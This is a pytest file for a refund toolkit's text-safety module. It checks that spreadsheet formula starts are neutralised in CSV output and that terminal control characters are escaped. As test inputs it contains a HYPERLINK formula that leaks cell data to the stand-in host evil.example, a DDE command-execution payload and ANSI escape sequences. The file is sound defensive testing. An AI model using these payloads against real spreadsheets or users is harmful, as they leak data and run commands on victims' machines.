"""neutralise_formula: what a spreadsheet would run as a formula is written as text; everything else is untouched."""

from __future__ import annotations

import csv
import io
import json

import pytest

from refundkit.present.tables import write_rows
from refundkit.textsafety import neutralise_formula


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
    ],
)
def test_formula_starts_are_neutralised(text: str) -> None:
    out = neutralise_formula(text)
    assert out == "'" + text
    assert neutralise_formula(out) == out  # idempotent


@pytest.mark.parametrize(
    ("text", "inert"),
    [
        ("SEMI-1;=2+3", "SEMI-1;'=2+3"),  # Excel in Portuguese splits CSV cells on ";"
        ("a,+1+1", "a,'+1+1"),
        ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
        ("a; -2+3", "a; '-2+3"),
        (";=1", ";'=1"),
        ("=1;=2", "'=1;'=2"),
        ("x;\uff1d1", "x;'\uff1d1"),
        ("damaged\n=1+1", "damaged\n'=1+1"),  # a reason on two lines: a paste may split it there
        ("a\r\n+cmd", "a\r\n'+cmd"),
    ],
)
def test_formulas_after_a_separator_inside_a_cell_are_neutralised(text: str, inert: str) -> None:
    assert neutralise_formula(text) == inert
    assert neutralise_formula(inert) == inert  # idempotent


@pytest.mark.parametrize(
    "text", ["", "APC-123", "ref 1 = 2", "12.34", "São Paulo", "rf-abc", " ", "a-b@c", "a;b,c\td", "x;'=1"]
)
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralise_formula(text) == text


def test_csv_neutralises_text_cells_but_not_amounts() -> None:
    out = io.StringIO()
    rows = [{"ref": "=cmd|' /C calc'!A0", "reason": "@evil", "user": "+ana", "amount": "-12.34"}]
    write_rows(out, rows, ["ref", "reason", "user", "amount"], "csv", numeric={"amount"})
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row == {"ref": "'=cmd|' /C calc'!A0", "reason": "'@evil", "user": "'+ana", "amount": "-12.34"}


def test_csv_neutralises_a_formula_after_a_semicolon() -> None:
    out = io.StringIO()
    write_rows(out, [{"ref": "SEMI-1;=2+3"}], ["ref"], "csv")
    assert out.getvalue().splitlines()[1] == "SEMI-1;'=2+3"  # pt-BR Excel opens it as two cells: SEMI-1 and '=2+3


def test_inert_shows_control_characters_as_escapes_and_keeps_tabs_and_line_feeds() -> None:
    from refundkit.textsafety import inert, inert_json

    assert inert("ok\x1b[2J\rFAKE\x9b\x7f") == "ok\\x1b[2J\\rFAKE\\x9b\\x7f"
    assert inert("a\tb\nc") == "a\tb\nc"
    text = json.dumps({"r": "x\x85\x7f\x1b"}, ensure_ascii=False)
    assert json.loads(inert_json(text)) == {"r": "x\x85\x7f\x1b"} and "\x85" not in inert_json(text)
